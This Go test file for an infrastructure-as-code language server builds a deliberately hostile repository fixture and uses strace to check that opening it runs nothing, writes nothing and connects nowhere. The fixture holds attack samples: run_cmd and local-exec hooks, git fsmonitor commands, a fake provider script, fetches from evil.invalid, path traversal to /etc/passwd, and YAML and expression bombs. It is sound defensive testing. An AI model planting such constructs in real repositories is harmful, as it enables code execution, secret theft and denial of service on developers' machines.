package server

import (
	"bytes"
	"context"
	"fmt"
	"io"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"runtime"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/creachadair/jrpc2"
	"github.com/creachadair/jrpc2/channel"
	"github.com/terrace-iac/terrace/internal/lsp/document"
	"github.com/terrace-iac/terrace/internal/lsp/protocol"
	"github.com/terrace-iac/terrace/internal/lsp/workspace"
	"github.com/terrace-iac/terrace/internal/workdir"
)

// TestMain serves on standard input and output if the first argument is "serve", so that a test can
// trace the server.
func TestMain(m *testing.M) {
	if len(os.Args) > 1 && os.Args[1] == "serve" {
		dir, err := os.Getwd()
		if err != nil {
			panic(err)
		}
		d, who, err := workdir.Embedded(workdir.Embedding{Dir: dir, Environ: os.Environ(), Log: io.Discard})
		if err != nil {
			panic(err)
		}
		if !Serve(context.Background(), Options{Session: workspace.New(d, who), Version: "test"}, os.Stdin, os.Stdout) {
			os.Exit(1)
		}
		os.Exit(0)
	}
	os.Exit(m.Run())
}

// hostileFiles returns the files of a repository that tries to do harm. outside is a directory that
// does not belong to it.
func hostileFiles(t *testing.T, outside string) string {
	dir := unpack(t, `
-- all.rules.hcl --
rule "reads" {
  resource = "*"
  enforce {
    condition     = file("`+outside+`/secret") == ""
    error_message = "x ${file("`+outside+`/secret")}"
  }
}
-- stack/terragrunt.stack.hcl --
locals {
  ran = run_cmd("touch", "`+outside+`/ran")
}
unit "far" {
  source = "git::https://evil.invalid/x.git"
  path   = "far"
}
unit "near" {
  source = "./unit"
  path   = "near"
  values = {
    ran = local.ran
    big = join("", [for i in range(100000) : "0123456789"])
  }
}
unit "out" {
  source = "./unit"
  path   = "../../../../../../../../../`+outside+`/made"
}
-- stack/unit/terragrunt.hcl --
inputs = {
  ran = values.ran
  big = values.big
  own = run_cmd("touch", "`+outside+`/ran")
}
-- json/main.tf.json --
{"locals": {"secret": "${file("`+outside+`/secret")}", "x": "${local.secret}"}, "module": {"m": {"source": "git::https://evil.invalid/x.git"}}}
-- terragrunt.hcl --
locals {
  ran  = run_cmd("touch", "`+outside+`/ran")
  also = run_cmd("--terragrunt-global-cache", "sh", "-c", "touch `+outside+`/ran")
  s    = sops_decrypt_file("secrets.yaml")
  id   = get_aws_account_id()
  far  = read_terragrunt_config("../../../../../../../../../../etc/passwd")
}
terraform {
  source = "git::https://evil.invalid/x.git"
  before_hook "h" {
    commands = ["init", "validate", "plan"]
    execute  = ["touch", "`+outside+`/ran"]
  }
  extra_arguments "a" {
    commands = ["plan"]
    env_vars = { PATH = "`+outside+`" }
  }
}
remote_state {
  backend = "http"
  config  = { address = "http://evil.invalid/state" }
}
inputs = { x = local.ran, y = local.s, z = local.id }
-- main.tf --
terraform {
  required_providers {
    evil = { source = "evil.invalid/evil/evil" }
  }
  backend "http" {
    address = "http://evil.invalid/state"
  }
}
module "far" {
  source = "http://evil.invalid/m.zip"
}
module "up" {
  source = "../../../../../../../../../../etc"
}
module "self" {
  source = "./"
}
data "external" "e" {
  program = ["touch", "`+outside+`/ran"]
}
data "http" "h" {
  url = "http://evil.invalid/"
}
resource "evil_thing" "t" {}
resource "terraform_data" "d" {
  for_each = toset([for i in range(100000) : tostring(i)])
  input    = local.huge
  provisioner "local-exec" {
    command = "touch `+outside+`/ran"
  }
}
locals {
  a0   = "xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx"
  a1   = join("", [for i in range(1000) : local.a0])
  a2   = join("", [for i in range(1000) : local.a1])
  a3   = join("", [for i in range(1000) : local.a2])
  a4   = join("", [for i in range(1000) : local.a3])
  huge = local.a4
  list = [for i in range(1000000000) : i]
  text = format("%1000000000d", 1)
  file = file("/dev/zero")
  data = yamldecode(file("laughs.yaml"))
}
output "o" {
  value = [local.huge, local.list, local.text, local.file, local.data.i]
}
-- laughs.yaml --
a: &a ["x","x","x","x","x","x","x","x","x"]
b: &b [*a,*a,*a,*a,*a,*a,*a,*a,*a]
c: &c [*b,*b,*b,*b,*b,*b,*b,*b,*b]
d: &d [*c,*c,*c,*c,*c,*c,*c,*c,*c]
e: &e [*d,*d,*d,*d,*d,*d,*d,*d,*d]
f: &f [*e,*e,*e,*e,*e,*e,*e,*e,*e]
g: &g [*f,*f,*f,*f,*f,*f,*f,*f,*f]
h: &h [*g,*g,*g,*g,*g,*g,*g,*g,*g]
i: &i [*h,*h,*h,*h,*h,*h,*h,*h,*h]
-- .terraform/modules/modules.json --
{"Modules":[{"Key":"","Source":"","Dir":"."},{"Key":"far","Source":"http://evil.invalid/m.zip","Dir":"../../../../../../../../../../etc"}]}
-- .terraform.lock.hcl --
provider "evil.invalid/evil/evil" {
  version = "1.0.0"
}
-- .terraform/providers/evil.invalid/evil/evil/1.0.0/`+runtime.GOOS+`_`+runtime.GOARCH+`/terraform-provider-evil --
#!/bin/sh
touch `+outside+`/ran
-- .git/config --
[core]
	fsmonitor = touch `+outside+`/ran
	sshCommand = touch `+outside+`/ran
-- .git/HEAD --
ref: refs/heads/main
`)
	provider := filepath.Join(dir, ".terraform", "providers", "evil.invalid", "evil", "evil", "1.0.0", runtime.GOOS+"_"+runtime.GOARCH, "terraform-provider-evil")
	must := func(err error) {
		t.Helper()
		if err != nil {
			t.Fatal(err)
		}
	}
	must(os.Chmod(provider, 0o755))
	must(os.WriteFile(filepath.Join(dir, "deep.tf"), []byte("locals {\n  deep = "+strings.Repeat("[", 100000)+strings.Repeat("]", 100000)+"\n}\n"), 0o644))
	must(os.MkdirAll(filepath.Join(dir, "large"), 0o755))
	must(os.WriteFile(filepath.Join(dir, "large", "main.tf"), bytes.Repeat([]byte("locals { a = 1 }\n"), 6<<20), 0o644)) // 102 MB
	deep := filepath.Join(dir, strings.Repeat("d/", 1000))
	must(os.MkdirAll(deep, 0o755))
	for name, to := range map[string]string{"up": "/", "loop": ".", "zero.tf": "/dev/zero", "passwd.tf": "/etc/passwd", "outside.hcl": outside + "/secret.hcl"} {
		if err := os.Symlink(to, filepath.Join(dir, name)); err != nil {
			t.Skip("symbolic links cannot be created: " + err.Error())
		}
	}
	return dir
}

// Opening a hostile repository executes nothing, writes nothing, connects to nothing, and ends. With
// strace, every system call is checked.
func TestHostileRepository(t *testing.T) {
	if testing.Short() {
		t.Skip("large files are written")
	}
	outside := t.TempDir()
	if err := os.WriteFile(filepath.Join(outside, "secret.hcl"), []byte("locals {\n  secret = \"text-from-outside\"\n}\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	dir := hostileFiles(t, outside)
	before := listing(t, dir)
	self, err := os.Executable()
	if err != nil {
		t.Fatal(err)
	}
	args := []string{self, "serve"}
	log := filepath.Join(t.TempDir(), "trace")
	strace, err := exec.LookPath("strace")
	traced := err == nil
	if traced {
		args = append([]string{strace, "-f", "-qq", "-e", "trace=execve,execveat,connect,bind,openat,creat,unlink,unlinkat,rename,renameat2,mkdir,mkdirat,symlinkat,linkat,truncate,kill", "-o", log}, args...)
	} else {
		t.Log("strace is not installed: the system calls are not checked")
	}
	cmd := exec.Command(args[0], args[1:]...)
	cmd.Dir, cmd.Env = dir, []string{"HOME=" + t.TempDir(), "PATH=" + os.Getenv("PATH"), "TMPDIR=" + t.TempDir()}
	in, err := cmd.StdinPipe()
	if err != nil {
		t.Fatal(err)
	}
	out, err := cmd.StdoutPipe()
	if err != nil {
		t.Fatal(err)
	}
	var errs bytes.Buffer
	cmd.Stderr = &errs
	if err := cmd.Start(); err != nil {
		t.Fatal(err)
	}
	c := &client{t: t, dir: dir, pushed: map[string]protocol.PublishDiagnosticsParams{}, versions: map[string]int{}}
	c.rpc = jrpc2.NewClient(channel.LSP(out, in), nil)
	began := time.Now()
	c.call("initialize", map[string]any{"rootUri": document.URI(dir), "capabilities": map[string]any{"textDocument": map[string]any{"diagnostic": map[string]any{}}}}, nil)
	c.notify("initialized", map[string]any{})
	answered := 0
	var slowest time.Duration
	slow := "" // the slowest request
	ask := func(method, name string, params, result any) bool {
		from := time.Now()
		err := c.try(method, params, result)
		if d := time.Since(from); d > slowest {
			slowest, slow = d, fmt.Sprintf("%s in %s %v", method, name, params)
		}
		return err == nil
	}
	for _, name := range []string{"main.tf", "terragrunt.hcl", "deep.tf", "laughs.yaml", "stack/terragrunt.stack.hcl", "stack/unit/terragrunt.hcl", "json/main.tf.json", "all.rules.hcl"} {
		text := c.open(name)
		doc := map[string]any{"textDocument": map[string]any{"uri": c.uri(name)}}
		for _, method := range []string{"diagnostic", "documentSymbol", "foldingRange", "semanticTokens/full", "documentLink", "codeLens", "formatting"} {
			if ask("textDocument/"+method, name, doc, nil) {
				answered++
			}
		}
		if name == "deep.tf" {
			continue
		}
		for _, m := range regexp.MustCompile(`(?m)^\s*(\w+)\s*=|(?:local|module|data)\.(\w+)`).FindAllStringSubmatchIndex(text, -1) {
			at := max(m[2], m[4])
			for _, method := range []string{"hover", "definition", "completion"} {
				var r any
				if ask("textDocument/"+method, name, c.position(name, []byte(text), at), &r) {
					answered++
				}
				if s := asJSON(r); strings.Contains(s, "text-from-outside") || len(s) > 4<<20 {
					t.Errorf("%s at %s:%d answers with %d bytes", method, name, at, len(s))
				}
			}
		}
		ask("terrace/effective", name, doc, nil)
	}
	var r any
	c.call("workspace/symbol", map[string]any{"query": "secret"}, &r)
	c.call("shutdown", nil, nil)
	c.notify("exit", nil)
	_ = c.rpc.Close()
	if err := cmd.Wait(); err != nil {
		t.Errorf("the server ends with %v: %s", err, errs.String())
	}
	memory := int64(0)
	if usage, ok := rusage(cmd.ProcessState); ok && !traced {
		memory = usage
	}
	t.Logf("%d answers in %s, at most %d MB; the slowest took %s: %s", answered, time.Since(began).Round(time.Millisecond), memory>>20, slowest.Round(time.Millisecond), slow)
	if slowest > 30*time.Second {
		t.Errorf("%s takes %s", slow, slowest)
	}
	if memory > 2<<30 {
		t.Errorf("the server used %d MB", memory>>20)
	}
	if _, err := os.Stat(filepath.Join(outside, "ran")); err == nil {
		t.Error("a program of the repository ran")
	}
	if after := listing(t, dir); !slices.Equal(before, after) {
		t.Errorf("the repository changed:\n%q\n%q", before, after)
	}
	if traced {
		checkTrace(t, log, self)
	}
}

// checkTrace checks the system calls of a server.
func checkTrace(t *testing.T, log, self string) {
	raw, err := os.ReadFile(log)
	if err != nil {
		t.Fatal(err)
	}
	calls := 0
	programs := 0
	for line := range strings.Lines(string(raw)) {
		_, call, _ := strings.Cut(strings.TrimSpace(line), " ")
		call = strings.TrimSpace(call)
		name, rest, ok := strings.Cut(call, "(")
		if !ok || strings.HasPrefix(call, "<...") || name == "???" { // strace prints ??? for a thread that ends in a call
			continue
		}
		calls++
		switch name {
		case "execve", "execveat":
			if programs++; programs > 1 || !strings.Contains(rest, strconv.Quote(self)) {
				t.Errorf("the server starts a program: %s", call)
			}
		case "openat":
			if strings.Contains(rest, "O_WRONLY") || strings.Contains(rest, "O_RDWR") || strings.Contains(rest, "O_CREAT") {
				if !strings.Contains(rest, `"/dev/null"`) {
					t.Errorf("the server writes: %s", call)
				}
			}
		case "kill":
		case "connect":
			if !strings.Contains(rest, `"/var/run/nscd/socket"`) { // the C library looks users up there
				t.Errorf("the server calls %s", call)
			}
		default:
			t.Errorf("the server calls %s", call)
		}
	}
	t.Logf("%d system calls were traced", calls)
	if calls < 20 || programs != 1 {
		t.Errorf("the trace has %d calls and %d programs", calls, programs)
	}
}

// listing returns the files below a directory with their sizes and times.
func listing(t *testing.T, dir string) (out []string) {
	t.Helper()
	err := filepath.Walk(dir, func(path string, info os.FileInfo, err error) error {
		if err == nil && !info.IsDir() {
			out = append(out, fmt.Sprintf("%s %d %s", path, info.Size(), info.ModTime()))
		}
		return err
	})
	if err != nil {
		t.Fatal(err)
	}
	return out
}
